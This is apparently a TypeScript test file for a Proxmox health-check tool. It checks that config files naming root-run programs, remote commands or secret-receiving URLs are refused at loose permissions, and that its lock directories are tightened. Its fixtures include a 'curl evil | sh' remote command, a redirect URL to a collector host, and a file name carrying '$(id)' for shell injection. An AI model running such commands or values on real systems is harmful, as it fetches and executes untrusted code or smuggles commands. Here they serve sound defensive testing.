// Files and directories that decide what runs as root or where secrets go, or that hold the tool's own
// state (docs/reports.md "Secrets and trust"): a config.toml that sets a program, a remote command or
// a secret-receiving URL must be root's 0600 like one holding a secret; the clean lock is 0600 in a
// 0700 /run/pve-health, also when an earlier run or an admin left them wider.
import assert from 'node:assert/strict';
import { chmodSync, chownSync, mkdirSync, mkdtempSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { takeRunLock } from '../../src/act/run-lock';
import { createHost } from '../../src/host/host';
import { readConfig } from '../../src/host/read-config';
import { ensurePrivateDir } from '../../src/host/write-file';

const mode = (p: string) => statSync(p).mode & 0o777;

describe('config.toml: refused unless 0600 when it names something executed or a secret-receiving URL', () => {
  const rows: { name: string; text: string; refused: RegExp | null }[] = [
    {
      name: 'sendmail.path',
      text: '[notify.sendmail]\npath = "/tmp/x.sh"\nto = "a@b.org"\n',
      refused: /sets notify\.sendmail\.path \(a program run as root\)/,
    },
    {
      name: 'cluster.remote_command',
      text: '[cluster]\nremote_command = "curl evil | sh"\n',
      refused: /sets cluster\.remote_command/,
    },
    {
      name: 'mailjet.base_url',
      text: '[notify.mailjet]\nbase_url = "https://collector.example"\n',
      refused: /sets notify\.mailjet\.base_url/,
    },
    {
      name: 'smtp.host (the password may come from the environment)',
      text: '[notify.smtp]\nhost = "mx.example"\n',
      refused: /sets notify\.smtp\.host/,
    },
    { name: 'a secret', text: '[notify.webhook]\nurl = "https://h/x/SECRET"\n', refused: /holds secrets/ },
    { name: 'thresholds only', text: '[dm]\nthin_data_warning = 70\n', refused: null },
    { name: 'sendmail recipients only (no path)', text: '[notify.sendmail]\nto = "a@b.org"\n', refused: null },
  ];
  for (const r of rows) {
    test(`${r.name}: 0644 ${r.refused ? 'refused' : 'accepted'}, 0600 accepted`, () => {
      const file = join(mkdtempSync(join(tmpdir(), 'pvh-trust-')), 'config.toml');
      writeFileSync(file, r.text);
      chmodSync(file, 0o644);
      if (r.refused) assert.throws(() => readConfig(createHost(), file), r.refused);
      else assert.doesNotThrow(() => readConfig(createHost(), file));
      chmodSync(file, 0o600);
      assert.doesNotThrow(() => readConfig(createHost(), file));
    });
  }
});

describe('config.toml: every key that can silence or redirect a check is trusted like one that runs a command', () => {
  // Each of these, written by another user, would hide a finding or send the results elsewhere.
  const rows: { name: string; text: string }[] = [
    { name: 'mounts.ignore = ["*"]', text: '[mounts]\nignore = ["*"]\n' },
    { name: 'a threshold', text: '[dm]\nthin_data_critical = 100\n' },
    { name: 'mounts.network_types', text: '[mounts]\nexpected_readonly = ["/mnt/pve/backup"]\n' },
    { name: 'notify.on = "never"', text: '[notify]\non = "never"\n' },
    { name: 'serve.listen', text: '[serve]\nlisten = "0.0.0.0:9999"\n' },
    { name: 'a recipient', text: '[notify.sendmail]\nto = "someone@else.example"\n' },
  ];
  const root = process.getuid?.() === 0;
  for (const r of rows) {
    test(`${r.name}: 0644 root's accepted; group- or world-writable refused${root ? '; owned by nobody refused' : ''}`, () => {
      const file = join(mkdtempSync(join(tmpdir(), 'pvh-trust-')), 'config.toml');
      writeFileSync(file, r.text);
      chmodSync(file, 0o644);
      assert.doesNotThrow(() => readConfig(createHost(), file));
      for (const m of [0o666, 0o664, 0o646]) {
        chmodSync(file, m);
        assert.throws(
          () => readConfig(createHost(), file),
          new RegExp(`decides what is checked .*mode 0${m.toString(8)} .*not applied.*chmod go-w`),
        );
      }
      if (root) {
        chmodSync(file, 0o600);
        chownSync(file, 65534, 65534);
        assert.throws(() => readConfig(createHost(), file), /owned by uid 65534: another user could silence/);
      }
    });
  }
  test('a file that sets nothing (comments only) changes nothing: accepted at any mode', () => {
    const file = join(mkdtempSync(join(tmpdir(), 'pvh-trust-')), 'config.toml');
    writeFileSync(file, '# nothing set\n');
    chmodSync(file, 0o666);
    assert.deepEqual(readConfig(createHost(), file), {});
  });
  test("a path with shell metacharacters: the advice's commands quote it", () => {
    const file = join(mkdtempSync(join(tmpdir(), 'pvh-trust-')), "a b;$(id)'.toml");
    writeFileSync(file, '[mounts]\nignore = ["*"]\n');
    chmodSync(file, 0o666);
    assert.throws(
      () => readConfig(createHost(), file),
      (e: Error) => e.message.includes(`chmod go-w '${file.replace(/'/g, "'\\''")}'`),
    );
  });
});

describe('/run/pve-health is 0700 and the clean lock 0600, always', () => {
  for (const pre of ['absent', 'left wider (0755 dir, 0644 lock)']) {
    test(`run lock with the directory ${pre}`, async () => {
      const root = mkdtempSync(join(tmpdir(), 'pvh-runlock-'));
      if (pre !== 'absent') {
        mkdirSync(join(root, 'run/pve-health'), { recursive: true, mode: 0o755 });
        chmodSync(join(root, 'run/pve-health'), 0o755);
        writeFileSync(join(root, 'run/pve-health/clean.lock'), '', { mode: 0o644 });
        chmodSync(join(root, 'run/pve-health/clean.lock'), 0o644);
      }
      const lock = await takeRunLock(createHost({ root }), { pid: process.pid, command: 'clean', startedAt: 'now' });
      try {
        assert.equal(mode(join(root, 'run/pve-health')), 0o700);
        assert.equal(mode(join(root, 'run/pve-health/clean.lock')), 0o600);
      } finally {
        lock.release();
      }
    });
  }
  test('ensurePrivateDir: tightens an existing directory, refuses a symlink in its place', async () => {
    const base = mkdtempSync(join(tmpdir(), 'pvh-priv-'));
    const d = join(base, 'run/pve-health/probes');
    mkdirSync(d, { recursive: true, mode: 0o777 });
    chmodSync(d, 0o777);
    ensurePrivateDir(d);
    assert.equal(mode(d), 0o700);
    const { symlinkSync } = await import('node:fs');
    symlinkSync(base, join(base, 'link'));
    assert.throws(() => ensurePrivateDir(join(base, 'link')), /not a directory/);
  });
});
